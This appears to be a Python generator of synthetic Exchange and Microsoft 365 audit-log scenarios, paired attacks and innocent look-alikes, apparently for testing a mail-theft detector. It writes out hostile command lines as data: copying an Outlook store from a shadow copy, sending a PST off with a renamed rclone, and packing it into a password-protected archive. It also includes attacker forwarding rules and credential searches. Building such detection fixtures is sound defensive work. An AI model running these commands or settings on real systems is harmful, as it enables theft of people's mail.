    """Customer software reads a few mailboxes twice a day; every few days a team joins, as teams joined before."""
    rng = story.rng
    firm = Firm(story, size=14, days=9)
    story.learning = 6 * DAY
    app, taken = unknown_app(story), 4
    for day in range(9):
        taken += rng.randrange(2, 4) if day in (2, 4, 6, 8) else 0
        for hour in (9, 14):
            for number, person in enumerate(firm.people[:taken]):
                at = day * DAY + hour * HOUR + 60 + number * 20
                firm.reads(
                    story, at, person, rng.randrange(1, 4), src=firm.other, client=REST, app_id=app, app_only=True
                )


@attack
def known_software_reads_beyond_its_people(story: Story) -> None:
    """Customer software that grows by a team now and then reads everybody else at once, or from elsewhere."""
    rng = story.rng
    firm = Firm(story, size=16, days=8)
    story.learning = 5 * DAY
    app, taken = unknown_app(story), 4
    for day in range(8):
        taken += rng.randrange(2, 4) if day in (2, 4) else 0
        for hour in (9, 14):
            for number, person in enumerate(firm.people[:taken]):
                at = day * DAY + hour * HOUR + 60 + number * 20
                firm.reads(
                    story, at, person, rng.randrange(1, 4), src=firm.other, client=REST, app_id=app, app_only=True
                )
    elsewhere = rng.random() < 0.5
    victims, src = (firm.people[taken : taken + 2], firm.outside) if elsewhere else (firm.people[taken:], firm.other)
    for number, person in enumerate(victims):
        at = 7 * DAY + 14 * HOUR + number * 30
        firm.reads(story, at, person, rng.randrange(5, 50), src=src, client=REST, app_id=app, app_only=True)
    story.attackers.update({app, src})


@innocent
def archive_on_the_allowlist(story: Story) -> None:
    """A new archive, registered with its application and address."""
    firm, app = Firm(story, size=10), unknown_app(story)
    nightly(story, firm, 1, app)
    story.allowlist.append(
        {"class": "archiving", "app_id": app, "source": firm.other, "owner": "it", "ticket": "A-1",
         "valid_from": "2026-01-01T00:00:00Z", "valid_until": "2026-06-01T00:00:00Z", "cap": "50"}
    )  # fmt: skip


@innocent
def customer_relations_software(story: Story) -> None:
    """An add-in that a few people use reads a few of their mails all day."""
    firm, app = Firm(story), unknown_app(story)
    for number in range(24):
        person = firm.people[number % 4]
        firm.reads(
            story, 8 * HOUR + number * 1500, person, story.rng.randrange(1, 6), src=firm.other, client=REST, app_id=app
        )


@innocent
def migration(story: Story) -> None:
    """A migration's account reads mailboxes inside its window."""
    firm, rng = Firm(story), story.rng
    mover = f"svc-move@{firm.domain}"
    for number, person in enumerate(firm.people):
        firm.reads(
            story, 20 * HOUR + number * 60, person, rng.randrange(50, 90), actor=mover, src=firm.other, logon_type=1
        )
    story.allowlist.append(
        {"class": "migration", "account": mover, "owner": "it", "ticket": "M-1",
         "valid_from": "2026-03-01T00:00:00Z", "valid_until": "2026-03-20T00:00:00Z"}
    )  # fmt: skip


@innocent
def case_work(story: Story) -> None:
    """Legal searches for a case, and exports with a ticket."""
    firm, at = Firm(story), a_time(story)
    legal = firm.people[0]
    story.audit(
        at, "SearchCreated", actor=legal, search="Case 7", case="Case 7", mailboxes=firm.people[1], src=firm.office
    )
    story.audit(
        at + 900,
        "SearchExported",
        actor=legal,
        search="Case 7",
        case="Case 7",
        mailboxes=firm.people[1],
        src=firm.office,
    )
    story.allowlist.append(
        {"class": "ediscovery", "account": legal, "owner": "legal", "ticket": "L-7",
         "valid_from": "2026-03-01T00:00:00Z", "valid_until": "2026-03-20T00:00:00Z"}
    )  # fmt: skip


@innocent
def search_without_export(story: Story) -> None:
    """Somebody counts hits of a content search."""
    firm = Firm(story)
    story.audit(
        a_time(story), "SearchCreated", actor=firm.people[0], search="gdpr", mailboxes=firm.people[1], src=firm.office
    )
    story.audit(a_time(story), "SearchStarted", actor=firm.people[0], search="gdpr", src=firm.office)


@innocent
def everyday_delegation(story: Story) -> None:
    """Administrators give access to assistants and teams, people share calendars."""
    firm, at = Firm(story), a_time(story)
    for number, person in enumerate(firm.people[:4]):
        told = {"Identity": person, "User": firm.people[4 + number], "AccessRights": "FullAccess"}
        story.audit(at + number * 600, "Add-MailboxPermission", actor=firm.admin, src=firm.office, Parameters=told)
    told = {"Identity": f"{firm.people[0]}:\\Calendar", "User": "Default", "AccessRights": "Reviewer"}
    story.audit(at, "Add-MailboxFolderPermission", actor=firm.people[0], src=firm.office, Parameters=told)


@innocent
def mail_merge_and_replies(story: Story) -> None:
    """Somebody sends to many, others answer automatically."""
    firm, at = Firm(story), a_time(story)
    for number in range(40):
        story.audit(at + number * 4, "Send", actor=firm.people[0], mailbox=firm.people[0], src=firm.office)
    for person in firm.people[1:4]:
        told = {"Identity": person, "AutoReplyState": "Enabled"}
        story.audit(at, "Set-MailboxAutoReplyConfiguration", actor=person, src=firm.office, Parameters=told)


@innocent
def office_mistypes(story: Story) -> None:
    """An office where several mistype, most sign in, and some file mail with rules or share calendars."""
    firm = Firm(story, size=10)
    for number, person in enumerate(firm.people):
        if number % 2:
            firm.signs_in(story, 8 * HOUR + number * 200, person, firm.office, 50126)
        firm.signs_in(story, 8 * HOUR + number * 200 + 20, person, firm.office)
        story.audit(
            10 * HOUR + number * 60, "New-InboxRule", actor=person, src=firm.office, Parameters=firm.filing(story)
        )


@innocent
def those_who_may_read_stores(story: Story) -> None:
    """Mail clients, indexers, scanners and backup as the system."""
    programs = (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "C:\\Windows\\System32\\SearchProtocolHost.exe",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe",
        "C:\\Program Files\\SentinelOne\\Sentinel Agent 23.4.2.14\\SentinelAgent.exe",
        "C:\\Windows\\System32\\wbengine.exe",
        "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Manager.exe",
    )
    for number, program in enumerate(pick(story.rng, programs, 5)):
        store = "C:\\Users\\dana\\AppData\\Local\\Microsoft\\Outlook\\dana.ost"
        facts = {"ProcessName": program, "ObjectName": store, "Computer": "WS-014.contoso.com"}
        story.other(9 * HOUR + number * 60, "security", User="NT AUTHORITY\\SYSTEM", **facts)
        sysmon(story, 10 * HOUR + number * 60, 11, program, TargetFilename=store, User="NT AUTHORITY\\SYSTEM")


@innocent
def browsers_save_messages(story: Story) -> None:
    """Browsers and Teams save single messages."""
    for number in range(12):
        image = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
        sysmon(
            story, 9 * HOUR + number * 60, 11, image, TargetFilename=f"C:\\Users\\dana\\Downloads\\offer{number}.eml"
        )


@innocent
def machine_is_replaced(story: Story) -> None:
    """IT brings archives into the profile on a new machine; a person moves an archive in Explorer."""
    line = 'robocopy "\\\\OLD\\backup$\\dana\\Outlook Files" "C:\\Users\\dana\\Documents\\Outlook Files" *.pst /E'
    tool, by = "C:\\Windows\\System32\\Robocopy.exe", "CONTOSO\\it.support"
    sysmon(story, 9 * HOUR, 1, tool, CommandLine=line, User=by)
    for number in range(3):
        target = f"C:\\Users\\dana\\Documents\\Outlook Files\\a{number}.pst"
        sysmon(story, 9 * HOUR + 30 + number, 11, tool, TargetFilename=target, User=by)
    sysmon(story, 11 * HOUR, 11, "C:\\Windows\\explorer.exe", TargetFilename="D:\\Mail\\archive.pst")


@innocent
def backup_on_the_allowlist(story: Story) -> None:
    """A backup with an account of its own copies stores to its server."""
    image = "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Manager.exe"
    for number in range(4):
        target = f"\\\\backup01\\mail\\a{number}.pst"
        sysmon(story, 2 * HOUR + number * 30, 11, image, TargetFilename=target, User="CONTOSO\\svc-backup")
    story.allowlist.append(
        {"class": "backup", "account": "CONTOSO\\svc-backup", "process_path": "C:\\Program Files\\Veeam\\*",
         "owner": "it", "ticket": "B-1", "valid_from": "2026-01-01T00:00:00Z", "valid_until": "2026-12-01T00:00:00Z"}
    )  # fmt: skip


def joins(story: Story, firm: Firm, people: Sequence[str], src: str, days: Sequence[int]) -> None:
    """People of another domain sign in as members of the tenant and read their mail."""
    for day in days:
        for person in people:
            at = day * DAY + story.rng.uniform(8, 10) * HOUR
            firm.signs_in(story, at, person, src)
            firm.reads(story, at + 600, person, story.rng.randrange(1, 9), src=src)


def other_domain(story: Story, firm: Firm) -> str:
    return str(story.rng.choice([domain for domain in names.DOMAINS if domain != firm.domain]))


@innocent
def acquired_domain(story: Story) -> None:
    """A company is bought: its domain is accepted, its people move in, and mail is forwarded between the two."""
    firm, rng = Firm(story, days=3), story.rng
    bought = other_domain(story, firm)
    people, at = names.people(rng, 6, bought), 2 * DAY + a_time(story)
    story.audit(9 * HOUR, "New-AcceptedDomain", actor=firm.admin, src=firm.office, Parameters={"DomainName": bought})
    joins(story, firm, people, firm.other, range(3))
    for number, person in enumerate(people[:3]):
        told: dict[str, Any] = {"Identity": firm.people[number], "ForwardingSmtpAddress": f"smtp:{person}"}
        told["DeliverToMailboxAndForward"] = True
        story.audit(at + number * 120, "Set-Mailbox", actor=firm.admin, src=firm.office, Parameters=told)
        rule = {"Name": "Both", "ForwardTo": firm.people[number]}
        story.audit(at + number * 300, "New-InboxRule", actor=people[number + 3], src=firm.other, Parameters=rule)


@attack
def domain_is_accepted_to_forward_to_it(story: Story) -> None:
    """An attacker with an administrator's rights makes a domain of theirs the tenant's, where nobody works."""
    firm, rng = Firm(story, days=2), story.rng
    victim, at = firm.people[0], DAY + a_time(story)
    domain = f"{rng.choice(('mx', 'relay', 'post'))}{rng.randrange(99)}.example.org"
    made = {"DomainName": domain, "DomainType": "ExternalRelay"}
    story.audit(at, "New-AcceptedDomain", actor=firm.admin, src=firm.outside, Parameters=made)
    told = {"Identity": victim, "ForwardingSmtpAddress": f"smtp:copy@{domain}", "DeliverToMailboxAndForward": True}
    story.audit(at + 1800, "Set-Mailbox", actor=firm.admin, src=firm.outside, Parameters=told)
    story.attackers.update({victim, firm.admin, firm.outside})


@innocent
def mailboxes_move_between_exchange_and_the_cloud(story: Story) -> None:
    """A hybrid move: a migration endpoint and batches, and mail routed to the tenant's own routing domain."""
    firm, at = Firm(story, size=10), a_time(story)
    routing = "contoso.mail.onmicrosoft.com"
    told = {"Name": "Hybrid", "ExchangeRemoteMove": True, "RemoteServer": f"mail.{firm.domain}"}
    story.audit(at, "New-MigrationEndpoint", actor=firm.admin, src=firm.office, Parameters=told)
    story.audit(at + 600, "New-MigrationBatch", actor=firm.admin, src=firm.office, Parameters={"Name": "Wave 1"})
    for number, person in enumerate(firm.people[:6]):
        local = person.partition("@")[0]
        moved = {"Identity": person, "Remote": True, "TargetDeliveryDomain": routing}
        story.audit(at + 900 + number * 5, "New-MoveRequest", actor=firm.admin, src=firm.office, Parameters=moved)
        sent = {"Identity": person, "ForwardingSmtpAddress": f"smtp:{local}@{routing}"}
        story.audit(at + 960 + number * 5, "Set-Mailbox", actor=firm.admin, src=firm.office, Parameters=sent)
        # What moves mail is Exchange itself; then everybody's Outlook builds its copy anew.
        firm.reads(
            story, at + 1800 + number * 30, person, 400, actor="NT AUTHORITY\\SYSTEM (MSExchangeMailboxReplication)",
            client="Client=MSExchangeMigration",
        )  # fmt: skip
        copies(story, at + 3 * HOUR + number * 60, person, firm.office, 8)


@innocent
def phones_are_wiped_and_enrolled_again(story: Story) -> None:
    """The phones' management is replaced: every phone is wiped, enrolled, and copies its mail again at home."""
    firm, rng = Firm(story, size=10, days=4), story.rng
    homes = [firm.elsewhere(story) for _ in firm.people]
    for number, person in enumerate(firm.people):
        phone = {"src": homes[number], "client": MOBILE, "app_id": OUTLOOK_MOBILE}
        for day in range(3):
            firm.reads(story, day * DAY + 20 * HOUR, person, rng.randrange(1, 9), **phone)
        at = 3 * DAY + 18 * HOUR + number * rng.uniform(60, 900)
        copies(story, at, person, homes[number], rng.randrange(4, 9), client=MOBILE, app_id=OUTLOOK_MOBILE)
        firm.reads(story, at + 300, person, rng.randrange(100, 450), **phone)


@innocent
def scripts_that_send(story: Story) -> None:
    """An administrator's script sends a report with Outlook."""
    mail = "$m=(New-Object -ComObject Outlook.Application).CreateItem(0)"
    line = f"powershell -c \"{mail}; $m.To='it@contoso.com'; $m.Send()\""
    sysmon(story, a_time(story), 1, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", CommandLine=line)


# --- searched, opened, and what looks like it


QUERIES = ("password", "vpn access", "keepass", "subject:invoice", "wire transfer", "iban", "payroll", "mfa reset")


def searches(story: Story, at: float, person: str, src: str, queries: Sequence[str]) -> None:
    for number, query in enumerate(queries):
        facts = {"actor": person, "src": src, "query": query}
        story.audit(at + number * story.rng.uniform(20, 200), "SearchQueryInitiatedExchange", **facts)


@attack
def mail_is_searched_for_passwords(story: Story) -> None:
    """Somebody with a stolen session searches before they read."""
    firm, rng = Firm(story, days=3), story.rng
    victim = firm.people[0]
    wanted = [*pick(rng, QUERIES[:3], 2), *pick(rng, QUERIES[3:7], 2), "mfa reset"]
    searches(story, 2 * DAY + a_time(story), victim, firm.outside, wanted)
    story.attackers.update({victim, firm.outside})


@attack
def inbox_is_opened_to_everybody(story: Story) -> None:
    """The inbox is shared with everybody, to be read from any account."""
    firm, rng = Firm(story), story.rng
    victim = firm.people[0]
    told = {
        "Identity": f"{victim}:\\Inbox",
        "User": rng.choice(("Default", "Anonymous")),
        "AccessRights": rng.choice(("Reviewer", "Owner", "ReadItems")),
    }
    operation = rng.choice(("Add-MailboxFolderPermission", "Set-MailboxFolderPermission"))
    story.audit(a_time(story), operation, actor=victim, src=firm.outside, Parameters=told)
    story.attackers.update({victim, firm.outside})


@attack
def flow_sends_mail_away(story: Story) -> None:
    """A flow of Power Automate joins the mailbox with a free mail service."""
    firm = Firm(story)
    victim = firm.people[0]
    connectors = f"Office 365 Outlook, {story.rng.choice(('Gmail', 'SMTP', 'Outlook.com', 'Dropbox'))}"
    raw(story, a_time(story), flow(victim, connectors, firm.outside))
    story.attackers.update({victim, firm.outside})


def flow(actor: str, connectors: str, src: str) -> dict[str, Any]:
    return {
        "CreationTime": "2026-03-03T12:00:00", "Id": f"flow-{actor}-{connectors}", "Operation": "CreateFlow",
        "RecordType": 30, "ResultStatus": "Success", "Workload": "MicrosoftFlow", "UserId": actor, "ClientIP": src,
        "FlowConnectorNames": connectors, "FlowDetailsUrl": f"https://flow.example.com/{actor}/{connectors}",
    }  # fmt: skip


@attack
def store_is_taken_from_a_shadow_copy(story: Story) -> None:
    """A store that Outlook holds open is copied from a shadow copy, or packed, or sent off with a renamed tool."""
    line, original = story.rng.choice(
        (
            (
                'cmd /c copy "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Users\\dana\\AppData\\Local\\'
                'Microsoft\\Outlook\\dana.ost" C:\\Users\\Public\\d.ost',
                "Cmd.Exe",
            ),
            ('s.exe copy "C:\\Users\\dana\\Documents\\Outlook Files\\old.pst" remote:drop', "rclone.exe"),
            ('r.exe a -hp x.rar "C:\\Users\\dana\\AppData\\Local\\Microsoft\\Outlook\\dana.ost"', "WinRAR.exe"),
        )
    )
    image = "C:\\Windows\\System32\\cmd.exe" if original == "Cmd.Exe" else "C:\\ProgramData\\u\\s.exe"
    sysmon(story, a_time(story), 1, image, CommandLine=line, OriginalFileName=original)
    story.attackers.add("ws-014")


@attack
def export_by_a_new_member_of_the_role(story: Story) -> None:
    """The results of somebody else's search are exported by a person who was given the role the day before."""
    firm, rng = Firm(story, days=2), story.rng
    thief, at = firm.people[0], DAY + a_time(story)
    told = {"Identity": rng.choice(("eDiscovery Manager", "Discovery Management")), "Member": thief}
    story.audit(at - 20 * HOUR, "Add-RoleGroupMember", actor=firm.admin, src=firm.office, Parameters=told)
    story.audit(at, "SearchExported", actor=thief, search="board", mailboxes=firm.people[2], src=firm.outside)
    story.attackers.update({thief, firm.admin, firm.outside})


def case_of(story: Story, at: float, firm: Firm, who: str, src: str, mailboxes: str) -> None:
    """A case from its hold to the export."""
    name = f"Case {story.rng.randrange(100, 999)}"
    told = {"Name": f"{name} hold", "Case": name, "ExchangeLocation": firm.people[2]}
    story.audit(at, "New-CaseHoldPolicy", actor=who, Parameters=told)
    story.audit(at + 900, "SearchCreated", actor=who, search=f"{name} mail", case=name, mailboxes=mailboxes, src=src)
    later = at + story.rng.uniform(1, 6) * HOUR
    story.audit(later, "SearchExported", actor=who, search=f"{name} mail", case=name, mailboxes=mailboxes, src=src)


@attack
def case_as_a_cover(story: Story) -> None:
    """A case with a hold covers an export: by somebody who took the role first, from elsewhere, or of every mailbox."""
    days = story.rng.randrange(1, 4)
    firm, rng = Firm(story, days=days), story.rng
    thief, at = firm.people[0], (days - 1) * DAY + 10 * HOUR
    sign = rng.choice(("role", "elsewhere", "every mailbox"))
    if sign == "role":
        told = {"Identity": "eDiscovery Manager", "Member": thief}
        story.audit(at - 2 * HOUR, "Add-RoleGroupMember", actor=thief, src=firm.office, Parameters=told)
    src = firm.outside if sign == "elsewhere" else firm.office
    case_of(story, at, firm, thief, src, "All" if sign == "every mailbox" else firm.people[2])
    story.attackers.update({thief, firm.outside})


@innocent
def first_case_of_the_log(story: Story) -> None:
    """The first case that the log shows: a person who handles cases puts mailboxes on hold, searches and exports."""
    days = story.rng.randrange(1, 4)
    firm = Firm(story, days=days)
    at = (days - 1) * DAY + story.rng.uniform(9, 12) * HOUR
    case_of(story, at, firm, firm.people[0], firm.office, firm.people[2])


@innocent
def people_search_their_mail(story: Story) -> None:
    """Finance looks for invoices all day, others for a password they were sent or for a ticket on a journey."""
    firm, rng = Firm(story, days=3), story.rng
    for number in range(20):
        at = 2 * DAY + 8 * HOUR + number * rng.uniform(900, 1500)
        searches(story, at, firm.people[0], firm.office, [f"invoice {rng.randrange(9999)}"])
    searches(story, 2 * DAY + a_time(story), firm.people[1], firm.office, ["wifi password", "password printer"])
    searches(story, 2 * DAY + a_time(story), firm.people[2], firm.outside, ["boarding pass", "hotel", "vpn"])


@innocent
def forwards_to_oneself_and_inside(story: Story) -> None:
    """Forwards to a tag of one's own address, to a subdomain of the company and to a team's mailbox, by every way."""
    firm, rng = Firm(story), story.rng
    person, at = firm.people[0], a_time(story)
    local = person.partition("@")[0]
    inside = [f"{local}+todo@{firm.domain}", f"{local}@mail.{firm.domain}", f"team@{firm.domain}"]
    for number, address in enumerate(inside):
        told = {"Name": f"To {number}", rng.choice(("ForwardTo", "RedirectTo")): address}
        story.audit(at + number * 300, "New-InboxRule", actor=person, src=firm.office, Parameters=told)
    told = {"Name": "Records", "JournalEmailAddress": f"journal@archive.{firm.domain}", "Scope": "Global"}
    story.audit(at, "New-JournalRule", actor=firm.admin, src=firm.office, Parameters=told)


@innocent
def helpdesk_repairs_rules(story: Story) -> None:
    """The helpdesk disables, changes and removes rules of people, and opens calendars."""
    firm, rng = Firm(story), story.rng
    at = a_time(story)
    for number, person in enumerate(firm.people[:4]):
        name = rng.choice(READERS)
        changes = {"Identity": f"{person}\\{name}", "MoveToFolder": name, "MarkAsRead": False}
        story.audit(at + number * 400, "Set-InboxRule", actor=firm.admin, src=firm.office, Parameters=changes)
        gone = {"Identity": f"{person}\\{name}"}
        operation = rng.choice(("Disable-InboxRule", "Remove-InboxRule"))
        story.audit(at + number * 400 + 60, operation, actor=firm.admin, src=firm.office, Parameters=gone)
        told = {"Identity": f"{person}:\\Calendar", "User": firm.people[-1], "AccessRights": "Editor"}
        story.audit(at + 90, "Add-MailboxFolderPermission", actor=person, src=firm.office, Parameters=told)


@innocent
def flows_inside(story: Story) -> None:
    """Flows that tell a team in Teams, or keep attachments in SharePoint."""
    firm = Firm(story)
    for number, connectors in enumerate(("Office 365 Outlook, Microsoft Teams", "Office 365 Outlook, SharePoint")):
        raw(story, a_time(story), flow(firm.people[number], connectors, firm.office))


@innocent
def case_by_a_law_firm(story: Story) -> None:
    """A guest of a law firm has worked on a case for days; mailboxes are on hold when the results are exported."""
    firm = Firm(story)
    guest = f"counsel_law.example.net#EXT#@{firm.domain}"
    for day in (0, 3):
        story.audit(
            day * DAY + 10 * HOUR, "SearchCreated", actor=guest, search=f"Case 9 part {day}", case="Case 9",
            mailboxes=firm.people[1], src=firm.other,
        )  # fmt: skip
    at = 6 * DAY + 10 * HOUR
    told = {"Name": "Case 9 hold", "Case": "Case 9", "ExchangeLocation": firm.people[1]}
    story.audit(at, "New-CaseHoldPolicy", actor=firm.admin, Parameters=told)
    story.audit(
        at + HOUR, "SearchExported", actor=guest, search="Case 9 part 3", case="Case 9", mailboxes=firm.people[1],
        src=firm.other,
    )  # fmt: skip
